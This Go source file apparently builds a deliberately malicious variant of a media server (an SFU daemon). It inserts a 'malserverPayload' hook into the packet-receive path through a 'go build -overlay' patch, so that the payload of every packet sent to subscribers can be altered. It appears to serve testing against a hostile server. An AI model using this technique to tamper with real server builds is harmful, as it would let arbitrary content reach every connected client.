package main

import (
	_ "embed"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

//go:embed media.go.txt
var mediaSource []byte

// The line of sfu that is changed: from there every subscriber gets the payload of a packet.
const (
	patchedFile = "sfu/receive.go"
	honestLine  = "\t\te.store(w.now, ext, h, temporal, payload)\n"
	addedLine   = "\t\tpayload = malserverPayload(e, payload)\n"
)

// Overlay writes what `go build -overlay` needs into a folder and returns its file. It fails if the line is not found exactly once.
func Overlay(root, folder string) (string, error) {
	source, err := os.ReadFile(filepath.Join(root, patchedFile))
	if err != nil {
		return "", err
	}
	if n := strings.Count(string(source), honestLine); n != 1 {
		return "", fmt.Errorf("%s has the line to patch %d times, not once", patchedFile, n)
	}
	patched := strings.Replace(string(source), honestLine, addedLine+honestLine, 1)
	files := map[string][]byte{filepath.Base(patchedFile): []byte(patched), "malserver.go": mediaSource}
	replace := map[string]string{}
	for name, content := range files {
		at := filepath.Join(folder, name)
		if err := os.WriteFile(at, content, 0o600); err != nil {
			return "", err
		}
		replace[filepath.Join(root, "sfu", name)] = at
	}
	data, err := json.Marshal(map[string]any{"Replace": replace})
	if err != nil {
		return "", err
	}
	file := filepath.Join(folder, "overlay.json")
	return file, os.WriteFile(file, data, 0o600)
}

// BuildDaemon builds the patched daemon from the module at root.
func BuildDaemon(root, out string) error {
	folder, err := os.MkdirTemp("", "malserver-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(folder)
	overlay, err := Overlay(root, folder)
	if err != nil {
		return err
	}
	build := exec.Command("go", "build", "-overlay", overlay, "-o", out, "./cmd/alcove")
	build.Dir, build.Stderr = root, os.Stderr
	return build.Run()
}
